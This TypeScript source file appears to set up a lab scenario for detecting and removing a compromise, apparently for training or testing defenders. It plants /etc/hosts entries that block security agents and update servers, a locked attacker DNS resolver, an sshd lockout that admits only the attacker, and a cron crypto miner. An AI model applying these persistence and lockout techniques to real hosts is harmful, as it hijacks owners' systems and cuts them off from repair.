// Where names lead was changed: updates and security agents blocked, a pool led to another address, a resolver of the attacker's locked in place, and
// ssh denied to all but one stranger. All of it is found and told; none of it is touched, because owners change these files as well.
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { RangeHost } from '../host.ts'
import { run } from '../machine.ts'
import { world } from '../net.ts'
import { cronMiner } from './cron-miner.ts'
import { decoyFiles, decoyProcesses, plantDecoys } from './decoys.ts'
import { append, put } from './plant.ts'
import { untilMining } from './mining.ts'
import type { Scenario } from './scenario.ts'

const miner = cronMiner('/usr/share/doc/.names', 'lab_named', '/etc/cron.d/named-refresh')

/** What the owner has in the same files: an intranet, a blocked tracker, a mirror inside the network. */
const ownersNames = `192.168.30.4 intranet.example intranet
0.0.0.0 tracker.example ads.example
192.168.30.9 deb.debian.org
`

/** The name server the network offers, as dhclient writes it down. */
const lease = `lease {
  interface "host0";
  option domain-name-servers 192.168.30.2;
}
`

/** Replaces the resolver by a public one and locks it: 8.8.8.8 forced, so that names of the owner's network are not known any more. After the decoys. */
export function plantForcedResolver(host: RangeHost, address = '8.8.8.8'): void {
  run(['chattr', '-i', join(host.dir, 'etc/resolv.conf')])
  put(host, '/var/lib/dhcp/dhclient.host0.leases', lease)
  put(host, '/etc/resolv.conf', `nameserver ${address}\n`, { flags: 'i', daysOld: 0 })
}

/** Blocks updates and the agents of security vendors, beside the owner's own lines. */
export function plantBlockedNames(host: RangeHost): void {
  for (const line of [
    ...ownersNames.trimEnd().split('\n'),
    '0.0.0.0 update.aegis.aliyun.com jsrv.aegis.aliyun.com',
    '127.0.0.1 security.debian.org archive.ubuntu.com',
    '0.0.0.0 pool.minexmr.com xmr.f2pool.com',
    `${world.pool} pool.supportxmr.com`,
  ])
    append(host, '/etc/hosts', line)
}

/** Only the attacker may log in, and those who come from this machine: else nobody could look. */
function plantLockOut(host: RangeHost): void {
  put(host, '/etc/hosts.deny', 'sshd: ALL EXCEPT 10.231.0.0/255.255.0.0\n', { daysOld: 0 })
  put(host, '/etc/hosts.allow', `${readFileSync(join(host.dir, 'etc/hosts.allow'), 'utf8')}sshd: ${world.attacker}\n`, {
    flags: 'i',
    daysOld: 0,
  })
}

export const names: Scenario = {
  name: 'names',
  about: 'blocked updates and agents, a foreign resolver locked in place, ssh for one stranger only, and a miner',
  plant: async (host) => {
    await plantDecoys(host)
    plantForcedResolver(host, world.attacker)
    plantBlockedNames(host)
    plantLockOut(host)
    await miner.plant(host)
    await untilMining(host, names)
  },
  hostileFiles: miner.files,
  dormantFiles: [],
  attackerFolders: [miner.folder],
  hostileProcesses: miner.processes,
  decoyFiles,
  decoyProcesses,
  revivePeriod: 60,
  expectedUndoFiles: miner.files.map(({ path }) => path),
  route: { advised: ['name'] },
}
